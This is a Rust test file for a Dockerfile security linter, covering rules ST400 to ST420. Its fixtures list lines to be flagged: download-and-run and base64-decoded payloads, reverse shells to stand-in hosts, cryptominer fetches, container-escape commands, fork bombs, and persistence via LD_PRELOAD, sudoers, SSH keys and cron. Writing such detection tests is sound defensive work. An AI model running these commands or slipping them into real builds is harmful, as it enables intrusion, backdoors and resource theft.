//! ST400 to ST420: attacks, and what looks like them.

use super::*;

#[test]
fn a_download_that_is_run_is_seen_however_it_gets_there() {
    check_lines(
        "ST400",
        &[
            "RUN curl https://e | sh",
            "RUN curl -fsSL https://e | sudo -E bash -",
            "RUN wget -qO- https://e | bash -s -- -y",
            "RUN set -e; f(){ curl \"$1\"|sh; }; f https://e",
            "RUN sh -c \"$(curl -fsSL https://e)\"",
            "RUN bash -c \"`wget -O - https://e`\"",
            "RUN eval \"$(curl https://e)\"",
            "RUN bash <(curl https://e)",
            "RUN . <(curl https://e)",
            "RUN curl https://e | python3 -",
            "RUN curl https://e | tee /log | sh",
            "RUN curl https://e | tee >(sh)",
            "RUN curl https://e | (cd /x && sh)",
            "RUN curl https://e | { cat; } | bash",
            "RUN curl https://e | { { { sh; a; b; c; d; } && e && f; }; g; h; i; j; k; l; m; n; o; p; q; r; s; t; u; v; }",
            "RUN c\\url https://e | s'h'",
            "RUN C=curl; $C https://e | sh",
            "ENV S=sh\u{1}RUN curl https://e | $S",
            "RUN <<EOF\ncurl https://e | sh\nEOF",
            "RUN bash <<EOF\ncurl https://e | sh\nEOF",
            "CMD [\"sh\", \"-c\", \"curl https://e | sh\"]",
            "HEALTHCHECK CMD curl https://e | sh",
            "RUN if a; then b; else curl https://e | sh; fi",
            "RUN curl https://e | gunzip | sh",
            "RUN $(curl https://e)",
            "RUN x | xargs -I{} sh -c 'curl {} | sh'",
            "RUN timeout 60 curl https://e | nice sh",
            "RUN if a; then S=sh; fi; curl https://e | $S -",
            "RUN echo 'curl https://e | sh' | sh",
            "RUN printf \"curl https://e | bash\" | bash -s",
            "RUN . /dev/stdin <<< \"$(curl https://e)\"",
            "RUN curl -o /dev/stdout https://e | sh",
            "RUN python3 -c \"from urllib.request import urlopen; exec(urlopen('https://e').read())\"",
            "SHELL [\"sh\", \"-c\", \"curl https://e | sh\"]",
            "COPY <<EOF /a\n#!/bin/sh\ncurl https://e | sh\nEOF",
        ],
        &[
            "RUN echo \"curl x | sh\"",
            "RUN echo 'curl https://e | sh' > /a",
            "RUN curl https://e | sha256sum",
            "RUN curl https://e | tar xz",
            "RUN curl https://e -o /a && ls | sh /b",
            "RUN cat <<'EOF' > /a\ncurl https://e | sh\nEOF",
            "RUN a # curl https://e | sh",
            "RUN curl https://e | sh-like",
            "RUN curl https://e | python3 -c 'import json, sys; json.load(sys.stdin)'",
            "RUN curl https://e | grep sh",
            "RUN V=$(curl https://e) && sh /b",
            "RUN bash -c \"V=$(curl https://e) && a\"",
            "RUN curl -o /a https://e | sh",
            "RUN curl https://e | $SUDO tar x",
            "RUN echo 'curl https://e | sh' | sh /a",
            "RUN echo 'curl https://e | sh' | cat",
            "RUN echo '(' | sh",
            "RUN curl https://e | $SUDO gpg --dearmor -o /a",
            "COPY <<EOF /a\ncurl https://e | sh\nEOF",
            "SHELL [\"sh\", \"-c\"]",
            "RUN eval \"$(ssh-agent)\"",
            "LABEL run=\"curl https://e | sh\"",
        ],
    );
    assert_eq!(
        underlined(
            "ST400",
            "FROM debian\nRUN a && \\\n  curl https://e \\\n  | sudo bash -\n"
        ),
        ["bash"]
    );
}

#[test]
fn a_downloaded_file_is_checked_before_it_is_run() {
    check_lines(
        "ST401",
        &[
            "RUN curl -o /tmp/x https://e/x && sh /tmp/x",
            "RUN wget https://e/x.sh && chmod +x x.sh && ./x.sh",
            "RUN curl -fsSLO https://e/a/x.sh; bash x.sh",
            "RUN curl https://e > x && . ./x",
            "RUN wget -O /x https://e && python3 /x --yes",
            "RUN wget -O /x https://e && sh < /x",
            "RUN wget -O /x https://e && cat /x | sh",
            "RUN curl -o i.sh https://e/i.sh; mv i.sh j.sh; sh j.sh",
        ],
        &[
            "RUN curl -o /tmp/x https://e/x && echo '0a  /tmp/x' | sha256sum -c && sh /tmp/x",
            "RUN curl -O https://e/x && gpg --verify x.asc x && sh x",
            "RUN curl -o /tmp/x https://e/x && sh /tmp/y",
            "RUN curl -o /x.tar https://e/x.tar && tar xf /x.tar",
            "RUN curl -o /x https://e/x && cat /x",
        ],
    );
}

#[test]
fn each_address_of_a_download_that_is_run_is_told_by_itself_and_first() {
    let told = |line: &str| -> Vec<String> {
        let findings = judged(&format!("FROM debian\nRUN {line}\n"));
        let ours = findings
            .into_iter()
            .filter(|one| matches!(&*one.rule, "ST400" | "ST401"));
        ours.map(|finding| finding.message.split('`').nth(1).unwrap_or("-").to_owned())
            .collect()
    };
    let (good, evil) = ("https://good.example/i.sh", "https://evil.example/i.sh");
    for (line, addresses) in [
        (format!("curl -e {good} -fsSL {evil} | sh"), vec![evil]),
        (format!("curl --referer {good} -o j.sh {evil} && sh j.sh"), vec![evil]),
        (format!("curl -fsSL {good} {evil} | sh"), vec![evil, good]),
        (
            format!("curl -fsSL {good} | sh; curl evil.example/i.sh | sh"),
            vec!["evil.example/i.sh", good],
        ),
        (format!("wget --header='Referer: {good}' -qO- {evil} | sh"), vec![evil]),
        (
            format!("curl -H 'X: {good}' evil.example/i.sh | sh"),
            vec!["evil.example/i.sh"],
        ),
        (
            format!("curl -x evil.example:80 {good} | sh"),
            vec!["evil.example:80", good],
        ),
        (
            format!("curl --resolve good.example:443:192.0.2.1 {good} | sh"),
            vec!["good.example:443:192.0.2.1", good],
        ),
        (format!("sh -c \"$(curl -fsSL {good}; curl {evil})\""), vec![evil, good]),
        ("curl -K list | sh".into(), vec!["-"]),
        (
            format!("curl -o /a/x {good}; curl -o /b/x {evil}; cd /b; sh x"),
            vec![evil, good],
        ),
        ("wget evil.example/z.sh && sh z.sh".into(), vec!["evil.example/z.sh"]),
        ("curl -O evil.example/y.sh && sh y.sh".into(), vec!["evil.example/y.sh"]),
        (format!("cat <(curl {evil}) | sh"), vec![evil]),
        (format!("curl -o /dev/null {good} {evil} | sh"), vec![evil, good]),
        (
            format!("curl '{evil}`{good}' | sh"),
            vec!["https://evil.example/i.sh'https://good.example/i.sh"],
        ),
        (format!("wget --progress=dot:giga -q {good} && sh i.sh"), vec![good]),
        (format!("curl --retry 3 -fsSLo /x {good} && sh /x"), vec![good]),
        // Whichever of them is there in the end.
        (
            format!("curl -o /x {evil}; curl -fo /x {good} || true; sh /x"),
            vec![evil, good],
        ),
        // Values of options are no addresses, and may be secrets.
        (
            format!("curl --ciphers ECDHE --tls-max 1.3 --user bob:hunter2 --oauth2-bearer abcDEF {good} | sh"),
            vec![good],
        ),
        (format!("x=$(curl {good}) && eval \"$x\""), vec![good]),
        (
            format!("x=$(curl {evil}); eval \"$(curl {good})\" \"$x\""),
            vec![evil, good],
        ),
    ] {
        let mut found = told(&line);
        found.sort_unstable();
        assert_eq!(found, addresses, "{line}");
    }
}

#[test]
fn more_downloaded_files_than_are_followed_are_told() {
    let many: String = (0..64).map(|n| format!("RUN curl -o /f{n} https://e/{n}\n")).collect();
    let text = format!("FROM debian\n{many}RUN curl -o /x https://evil.example/x && sh /x\n");
    let findings = judged(&text);
    let told: Vec<_> = findings.iter().filter(|one| one.rule == "ST420").collect();
    assert_eq!((told.len(), told[0].level), (1, Level::Error), "{told:?}");
    assert!(
        judged(&format!("FROM debian\n{many}"))
            .iter()
            .all(|one| one.rule != "ST420")
    );
}

#[test]
fn a_file_that_an_earlier_step_of_the_stage_downloaded_is_known() {
    let ran = |steps: &str| {
        underlined(
            "ST401",
            &format!("FROM debian\nRUN curl -o /tmp/x https://e/x\n{steps}\n"),
        )
    };
    assert_eq!(ran("RUN chmod +x /tmp/x\nRUN /tmp/x --all"), ["/tmp/x"]);
    assert_eq!(ran("WORKDIR /tmp\nRUN sh ./x"), ["./x"]);
    assert!(ran("RUN echo '0a  /tmp/x' | sha256sum -c\nRUN /tmp/x").is_empty());
    // Another stage has other files, and what a trigger would run does not stand here yet.
    assert!(ran("FROM debian\nRUN sh /tmp/x").is_empty());
    assert!(ran("ONBUILD RUN sh /tmp/x").is_empty());
}

#[test]
fn what_stands_before_or_behind_text_that_cannot_be_read_is_read() {
    check_lines(
        "ST405",
        &[
            "RUN <<E\nnsenter -t 1 -m sh\nexit 0\n((( \"\nE",
            "RUN <<E\necho a\nif\nnsenter -t 1 -m sh\nE",
            "RUN pwsh || nsenter -t 1 -m sh",
            "RUN <<E\n#!/bin/busybox sh\nnsenter -t 1 -m sh\nE",
            "RUN cmd & nsenter -t 1 -m sh",
            "RUN command -p nsenter -t 1 -m sh",
            "SHELL [\"fish\", \"-c\"]\u{1}RUN nsenter -t 1 -m sh",
            "SHELL [\"python3\", \"-c\"]\u{1}RUN import os; os.system('nsenter -t 1 -m sh')",
            "COPY <<E /x\n#!/usr/bin/python3\nimport os\nos.system('nsenter -t 1')\nE",
            "COPY <<E /x\nnsenter -t 1\nE\u{1}RUN sh /x",
            "COPY <<x /usr/bin/\nnsenter -t 1\nx\u{1}CMD [\"x\"]",
            "RUN echo nsenter -t 1 > /x\u{1}RUN . /x",
            "RUN cp /usr/bin/nsenter /tmp/x && /tmp/x -t 1",
            "RUN ln -s /usr/bin/nsenter /tmp/x; /tmp/x -t 1",
        ],
        &[
            "RUN powershell -Command \"Write-Host 'nsenter -t 1'\"",
            "RUN command -v nsenter",
            "COPY <<E /x\nnsenter -t 1\nE",
        ],
    );
}

#[test]
fn packed_programs_are_seen_when_they_are_run() {
    check_lines(
        "ST402",
        &[
            "RUN echo aGk= | base64 -d | sh",
            "RUN echo aGk= | base64 --decode | gunzip | bash",
            "RUN eval \"$(echo aGk= | base64 -d)\"",
            "RUN bash -c \"$(echo aGk= | base64 -di)\"",
            "RUN echo 6869 | xxd -r -p | sh",
            "RUN openssl base64 -d -in x | sh",
            "RUN bash <<< \"$(base64 -d x)\"",
            "RUN python3 -c \"import base64; exec(base64.b64decode('aGk='))\"",
            "RUN perl -e 'use MIME::Base64; eval decode_base64(\"aGk=\")'",
            "RUN printf '\\x65\\x63\\x68\\x6f' | sh",
            "RUN curl https://e | base64 -d | sh",
            "RUN ruby -e 'eval(\"aGk=\".unpack1(\"m\"))'",
            "RUN echo hs | rev | sh",
            "RUN $(echo bHM= | base64 -d)",
            "RUN echo bHM= | base64 -d > /x && sh /x",
            "RUN echo bHM= | base64 -d > /x && chmod +x /x && /x",
            "RUN x=$(echo bHM= | base64 -d); eval \"$x\"",
            "RUN x=$(echo bHM= | base64 -d) && $x",
            "RUN echo bHM= | base64${y} -d | sh",
            "RUN echo bHM= | base64 -d | xargs -0 sh -c",
            "RUN echo bHM= | python3 -m base64 -d | sh",
            "RUN echo frpher | tr A-Za-z N-ZA-Mn-za-m | sh",
            "RUN python3 -c \"import base64,os; os.system(base64.b64decode('aGk='))\"",
            "RUN sh -c \"set -e; $(echo aGk= | base64 -d)\"",
            "RUN echo aGk= | base64 --d | sh",
            "RUN openssl aes-128-cbc -d -in x | sh",
            "RUN gpg -d x | sh",
            "RUN echo bHM= | base64 -d | tee /x; sh /x",
            "RUN openssl enc -base64 -d -in a -out /y; sh /y",
            "RUN echo bHM= | base64 -d > /x; mv /x /y; sh /y",
        ],
        &[
            "RUN echo aGk= | base64 -d > /key",
            "RUN echo hi | base64",
            "RUN echo 'x | base64 -d | sh'",
            "RUN eval \"$(pyenv init -)\"",
            "RUN gunzip -c a.gz | mysql",
            "RUN python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'",
            "RUN K=$(echo aGk= | base64 -d) && a",
            "RUN python3 -c 'import ast; print(ast.literal_eval(bytes.fromhex(\"31\").decode()))'",
            "RUN node -e 'Buffer.from(\"x\"); /a/.exec(\"a\")'",
            "RUN echo 'echo hi' | sh",
            "RUN printf '\\033[31m\\033[1mhi\\033[0m\\033[0m\\n' | sh",
            "RUN K=$(echo aGk= | base64 -d); echo $K",
            "RUN K=$(echo \"$B\" | base64 -d) && python manage.py createadmin \"$K\"",
            "RUN K=$(echo \"$B\" | base64 -d); sh ./install.sh --license \"$K\"",
            "RUN sh ./install.sh \"$(echo \"$B\" | base64 -d)\"",
            "RUN M=$(echo \"$V\" | rev | cut -d. -f1 | rev); bash build.sh \"$M\"",
            "CMD node server.js \"$(echo $CFG | base64 -d)\"",
            "RUN psql=( psql -v A=1 ); gunzip -c a.gz | \"${psql[@]}\"; p='psql -U $U'; gunzip -c a.gz | $p",
            "RUN zcat a.gz | python3 -mjson.tool > b",
            "RUN python3 -c 'import sys; print(sys.stdin.read())' <<< \"$(zcat a.gz)\"",
            "RUN bash /import.sh <<< \"$(zcat /x.gz)\"",
            "RUN N=$(echo a/b | rev | cut -d/ -f1 | rev) && $N --version",
            "RUN echo -e 'exec nginx -g \\x27daemon off;\\x27 -c \\x27/x\\x27' > /s.sh && sh /s.sh",
            "COPY <<E /x\n#!/usr/bin/python3\nimport json, base64, os, subprocess\nc = json.loads(base64.b64decode(os.environ['C']))\nsubprocess.run(['gunicorn'])\nE",
            "COPY <<E /x\n#!/usr/bin/env node\nconst k = Buffer.from(KEY, 'base64'); const f = new Function('x', 'return x')\nE",
        ],
    );
}

#[test]
fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
    check_lines(
        "ST403",
        &[
            "RUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "RUN bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
            "RUN exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "RUN exec 5<>/dev/tcp/203.0.113.7/443; sh <&5 >&5",
            "RUN exec <>/dev/tcp/127.example.com/443; sh",
            "RUN mkfifo /f /g; nc 203.0.113.7 4444 < /f > /g & sh < /g > /f",
            "RUN php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3\");'",
            "RUN php -r '$s=fsockopen(\"203.0.113.7\",1);while(1){echo shell_exec(fgets($s));}'",
            "RUN python3 -c 'import socket,os;s=socket.create_connection((\"203.0.113.7\",1));os.system(s.recv(99))'",
            "RUN ncat -l 4444 --sh-exec 'bash -i'",
            "RUN eval \"$(nc 203.0.113.7 44)\"",
            "RUN bash <(nc 203.0.113.7 44)",
            "RUN x=$(nc 203.0.113.7 44); eval \"$x\"",
            "RUN bash <(cat </dev/tcp/203.0.113.7/44)",
            "RUN source /dev/tcp/203.0.113.7/44",
            "RUN awk 'BEGIN { s = \"/inet/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
            "RUN gawk 'BEGIN { t = \"/inet/tcp/0/localhost/80\"; s = \"/inet/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
            "RUN gawk 'BEGIN { s = \"/inet4/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
            "RUN cat < /dev/tcp/203.0.113.7/1 | sh",
            "RUN nc -e /bin/sh 203.0.113.7 4444",
            "RUN ncat 203.0.113.7 4444 --exec /bin/bash",
            "RUN nc -nvc bash 203.0.113.7 4444",
            "RUN mkfifo /f; cat /f | sh -i 2>&1 | nc 203.0.113.7 4444 > /f",
            "RUN nc 203.0.113.7 4444 | sh",
            "RUN socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty",
            "RUN socat tcp-listen:1 exec:'bash -li'",
            "RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "RUN perl -e 'use Socket; connect(S, sockaddr_in(1, inet_aton(\"e\"))); exec(\"/bin/sh -i\")'",
            "CMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.7\", \"1\"]",
            "RUN busybox nc 203.0.113.7 1 -e sh",
            "RUN cat /f | sh -i | openssl s_client -connect e:1",
        ],
        &[
            "RUN nc -z localhost 80",
            "HEALTHCHECK CMD gawk 'BEGIN { s = \"/inet/tcp/0/localhost/80\"; s |& getline; close(s) }'",
            "RUN ip -o addr | awk '/inet/ { print $4 }'",
            "RUN nc -zve host 80",
            "HEALTHCHECK CMD bash -c 'echo > /dev/tcp/127.0.0.1/80'",
            "RUN bash -c \"exec 3<>/dev/tcp/localhost/80\"",
            "CMD [\"bash\", \"-c\", \"until (exec 3<>/dev/tcp/db/5432) 2>&1; do sleep 1; done; node a\"]",
            "RUN exec 5<>/dev/tcp/203.0.113.7/80; echo GET / >&5; cat <&5",
            "CMD ncat -l 8080 --sh-exec 'echo ok'",
            "COPY <<E /x\n#!/bin/bash\nuntil (exec </dev/tcp/db.internal/5432) 2>/dev/null; do sleep 1; done\neval \"$(direnv export bash)\"\nE",
            "COPY <<E /x\n#!/bin/bash\nuntil exec 3<>/dev/tcp/db.internal/5432; do sleep 1; done; exec 3>&-\nwhile read kv; do eval \"$kv\"; done < /etc/env\nE",
            "COPY <<E /x\n#!/usr/bin/python3\nimport socket, subprocess\ns = socket.create_connection(('redis', 6379))\nassert s.recv(7)\nsubprocess.check_call(['celery', 'worker'])\nE",
            "COPY <<E /x\n#!/usr/bin/env node\nconst net = require('net'), { spawn } = require('child_process')\nnet.connect(5432, 'db')\nconst p = spawn('node', ['a.js'])\np.stdout.on('data', d => console.log(d))\nE",
            "COPY <<E /x\n#!/usr/bin/ruby\nrequire 'socket'\nTCPSocket.new('db', 5432).close\nputs File.read('/etc/x')\nexec \"bundle\", \"exec\"\nE",
            "COPY <<E /x\n#!/usr/bin/php\n<?php $f = fsockopen('db', 3306); fgets($f); $pdo->exec(\"CREATE DATABASE a\");\nE",
            "COPY <<E /x\n#!/usr/bin/perl\nuse IO::Socket::INET; IO::Socket::INET->new('db:5432'); while (<$fh>) { print } exec @ARGV;\nE",
            "RUN lua5.3 -e 'os.execute(\"luarocks install luasocket\")'",
            "COPY <<'E' /x\n#!/bin/bash\nexec 3<>/dev/tcp/redis/6379 || exit 1\nprintf 'PING' >&3\nread -r -t 2 reply <&3\nfor f in /docker-entrypoint.d/*.sh; do \"$f\"; done\neval \"$(ssh-agent -s)\"\nE",
            "RUN python3 - <<E\nimport socket, subprocess, sys\ns = socket.create_connection(('redis', 6379))\nassert s.recv(16)\nsys.exit(subprocess.call(sys.argv[1:]))\nE",
            "RUN php -r \"while(!@fsockopen('db',3306)){sleep(1);} passthru('/bin/sh -c a');\"",
            "RUN socat - EXEC:'bash -c \"stty cols 80; make test\"',pty,setsid",
            "RUN bash < /opt/metrics.sh | nc -q1 graphite 2003",
            "RUN while ! echo > /dev/tcp/$HOST/80; do sleep 1; done",
            "RUN echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
            "RUN apt-get install -y netcat socat",
            "RUN python3 -c 'import socket; socket.create_connection((\"localhost\", 1))'",
            "RUN mkfifo /f && cat /f",
            "RUN echo PING | nc localhost 6379",
            "CMD socat TCP-LISTEN:1337,reuseaddr,fork EXEC:./program",
            "RUN python3 -c 'import socket, subprocess; socket.socket().connect((\"localhost\", 1)); subprocess.run([\"a\"])'",
        ],
    );
}

#[test]
fn miners_are_seen_where_they_run_or_are_fetched() {
    check_lines(
        "ST404",
        &[
            "RUN ./xmrig --donate-level 1",
            "CMD [\"/opt/xmrig\", \"-c\", \"x\"]",
            "RUN git clone https://github.com/xmrig/xmrig.git",
            "RUN curl -LO https://github.com/xmrig/xmrig/releases/a.tar.gz",
            "ENV POOL=stratum+tcp://e:3333",
            "RUN a -o stratum+tcp://e:3333",
            "RUN echo '{\"url\": \"stratum+tcp://e:1\"}' > config.json",
            "RUN a --url pool.supportxmr.com:443",
            "RUN a -o STRATUM+TCP://e:3333",
            "RUN echo stratum+tcp://e:1 | tee /config",
            "COPY <<E /config.json\n{\"url\": \"stratum+tcp://e:1\"}\nE",
            "RUN curl -LO https://e.com/xmrig-6.tar.gz",
        ],
        &[
            "RUN echo xmrig stratum+tcp://e",
            "RUN pkill xmrig",
            "RUN grep -r stratum+tcp: /x",
            "RUN make miner",
            "RUN git clone https://e.com/minerdocs.git",
            "RUN curl https://api.nicehash.com/v2",
            "RUN git clone https://e.com/mine-rig.git",
        ],
    );
}

#[test]
fn ways_out_are_seen_and_their_names_are_not() {
    check_lines(
        "ST405",
        &[
            "RUN nsenter -t 1 -m sh",
            "RUN unshare -Urm",
            "RUN unshare -r sh -c a",
            "RUN insmod /x.ko",
            "RUN modprobe x",
            "RUN mknod /dev/x b 8 1",
            "RUN mknod -m 600 /m c 1 1",
            "RUN mount -t cgroup -o memory cgroup /x",
            "RUN mount /dev/sda1 /x",
            "RUN sysctl -w kernel.core_pattern=x",
        ],
        &[
            "RUN mknod /x/dev/null c 1 3",
            "RUN mknod /f p",
            "RUN echo nsenter",
            "RUN apt-get install -y kmod util-linux # modprobe",
            "RUN command -v unshare",
            "RUN mount -t tmpfs tmpfs /x",
            "RUN which nsenter",
            "RUN cdk synth",
        ],
    );
}

#[test]
fn what_uses_a_resource_up_is_seen() {
    check_lines(
        "ST406",
        &[
            "RUN :(){ :|:& };:",
            "RUN f() { f & f & }; f",
            "RUN fallocate -l 100G /x",
            "RUN dd if=/dev/zero of=/x bs=1M count=20000",
            "RUN dd if=/dev/zero of=/x",
            "RUN yes > /x",
            "RUN cat /dev/urandom >> /x",
            "RUN head -c 50G /dev/zero > /x",
            "RUN stress-ng --cpu 8",
        ],
        &[
            "RUN fallocate -l 10M /x",
            "RUN dd if=/dev/zero of=/x bs=1M count=10",
            "RUN yes | apt-get install a",
            "RUN yes > /dev/null",
            "RUN f() { a | b; }; f",
            "RUN cat /dev/urandom | head -c 32 > /x",
            "RUN truncate -s 0 /x",
        ],
    );
}

#[test]
fn hooks_and_keys_are_seen_where_they_are_written() {
    check_lines(
        "ST407",
        &[
            "ENV LD_PRELOAD=/tmp/x.so",
            "ENV BASH_ENV=/etc/x",
            "ENV PATH=/tmp/bin:$PATH",
            "ENV PATH .:$PATH",
            "RUN echo /x.so > /etc/ld.so.preload",
            "COPY x /etc/ld.so.preload",
            "RUN LD_PRELOAD=./x.so a",
            "ENV NODE_OPTIONS=\"--require /x.js\"",
        ],
        &[
            "ENV LD_PRELOAD=/usr/lib/libjemalloc.so.2",
            "ENV LD_PRELOAD=",
            "ENV PATH=$PATH:/x",
            "ENV PATH=/opt/x/bin:$PATH",
            "ENV PATH=\"${PATH}:/x\"",
            "ENV NODE_OPTIONS=--max-old-space-size=4096",
            "RUN echo LD_PRELOAD=/tmp/x.so",
        ],
    );
    check_lines(
        "ST408",
        &[
            "RUN echo 'app ALL=NOPASSWD:ALL' >> /etc/sudoers",
            "RUN echo x | tee -a /etc/sudoers.d/app",
            "RUN cp key /root/.ssh/authorized_keys",
            "COPY key /root/.ssh/authorized_keys",
            "RUN echo '* * * * * root a' > /etc/cron.d/a",
            "RUN (crontab -l; echo '* * * * * a') | crontab -",
            "COPY a.cron /etc/cron.d/a",
            "RUN sed -i 's/a/b/' /etc/sudoers",
            "RUN install -m 755 a /etc/init.d/a",
        ],
        &[
            "RUN cat /etc/sudoers",
            "RUN echo 'see /etc/sudoers'",
            "RUN crontab -l",
            "COPY sudoers /etc/app/sudoers",
            "RUN rm -f /etc/cron.d/a",
            "RUN cp /etc/sudoers /backup",
        ],
    );
}

#[test]
fn habits_of_another_kind_of_machine_are_told() {
    check_lines(
        "ST409",
        &[
            "HEALTHCHECK CMD curl https://e.com/ping",
            "HEALTHCHECK CMD [\"wget\", \"-q\", \"http://e.com\"]",
        ],
        &[
            "HEALTHCHECK CMD curl http://localhost/",
            "HEALTHCHECK CMD curl http://127.0.0.1:80/",
            "CMD curl https://e.com",
        ],
    );
    check_lines(
        "ST410",
        &[
            "RUN apt-get install -y docker-ce=1",
            "RUN apk add docker",
            "CMD dockerd",
            "RUN docker run x",
        ],
        &[
            "RUN apt-get install -y docker-compose-doc",
            "RUN echo docker run",
            "COPY docker /x",
        ],
    );
    check_lines(
        "ST454",
        &[
            "RUN top",
            "RUN a && kill 1",
            "RUN mount x",
            "RUN sh -c 'service x start'",
        ],
        &["RUN apt-get install -y vim ssh", "CMD service x start", "RUN echo ps"],
    );
}

#[test]
fn shell_text_that_cannot_be_read_is_told_and_hides_nothing() {
    check_lines(
        "ST420",
        &[
            "RUN if a; then b",
            "RUN echo 'a",
            "RUN a | | b",
            "RUN (a",
            "RUN sh -c 'if'",
            "RUN a $(b | )",
            "RUN echo $'\\' ; curl https://e | sh ; echo '",
        ],
        &[
            "RUN [[ a =~ ^(b|c)$ ]] && d",
            "RUN case a in a) b;; (c) d;; esac",
            "RUN echo ${a:-'}'} \"${a:-\\}}\"",
            "RUN for ((i=0; i<3; i++)); do a; done",
            "RUN a=(b c) && echo \"${a[@]}\" $((1 << 2))",
            "RUN cat <<EOF\nit's $(a) `b`\nEOF",
            "SHELL [\"bash\", \"-c\"]\u{1}RUN echo $'it\\'s'",
            "RUN echo $'a\\n'",
            "RUN powershell -Command Get-Item 'a",
            "SHELL [\"powershell\", \"-Command\"]\u{1}RUN if (a) { b",
        ],
    );
    let nested = format!(
        "FROM debian\nRUN {}curl https://e | sh{}\n",
        "a $(".repeat(40),
        ")".repeat(40)
    );
    assert!(fired(&nested).contains("ST420"));
}
